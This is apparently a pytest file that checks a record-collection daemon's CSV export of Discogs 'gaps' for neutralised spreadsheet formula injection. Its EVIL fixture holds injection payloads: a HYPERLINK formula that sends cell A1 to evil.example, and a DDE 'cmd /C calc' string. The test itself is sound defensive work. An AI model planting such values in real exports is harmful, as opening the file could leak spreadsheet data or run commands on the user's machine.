"""Issue 11.4: Discogs text in /gaps/export.csv cannot become a spreadsheet formula (OWASP's rule)."""

from __future__ import annotations

import csv
import io
from typing import Any

from testkit.fakes.discogs.server import FakeDiscogs, ServerThread

USER, TOKEN = "crate", "tok-crate-csv"
EVIL = {
    "artist": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "title": "+1-2",
    "track": "-2+3 (Original Mix)",
    "label": "@SUM(1+1)",
    "catno": "\t=cmd|' /C calc'!A0",
}


def test_cells_that_start_like_a_formula_are_neutralised(daemon_factory: Any) -> None:
    fake = FakeDiscogs(seed=5)
    user = fake.add_user(USER, TOKEN, releases=2, wants=0)
    release = fake.catalog.release(user.instances[0]["id"])
    release["artists"] = [dict(release["artists"][0], name=EVIL["artist"], anv="")]
    release["title"] = EVIL["title"]
    release["labels"] = [dict(release["labels"][0], name=EVIL["label"], catno=EVIL["catno"])]
    for t in release["tracklist"]:
        t["title"] = EVIL["track"]
        t.pop("artists", None)
    with ServerThread(fake) as srv:
        d = daemon_factory(
            {"discogs": {"username": USER, "token": TOKEN, "base_url": srv.base_url, "poll_interval": 0}}
        )
        api = d.api()
        job = api.post("/discogs/sync", {})
        assert d.wait_job(job["id"])["status"] == "succeeded"
        d.wait_for(
            lambda: any(g["release_id"] == release["id"] for g in api.get("/gaps", limit=1000)["items"]),
            timeout=60,
            what="gaps for the synced releases",
        )
        gaps = [g for g in api.get("/gaps", limit=1000)["items"] if g["release_id"] == release["id"]]
        assert gaps[0]["artist"] == EVIL["artist"]  # the API keeps the real text; only the CSV is neutralised
        text = api.get("/gaps/export.csv")
    rows = [r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff"))) if r["release_id"] == str(release["id"])]
    assert rows
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
        assert row["artist"] == "'" + EVIL["artist"]
        assert row["release_title"] == "'" + EVIL["title"]
        assert row["title"] == "'" + EVIL["track"]
        assert row["label"] == "'" + EVIL["label"]
        assert row["catno"] == "'" + EVIL["catno"]
        assert int(row["release_id"]) == release["id"]  # numbers stay numbers
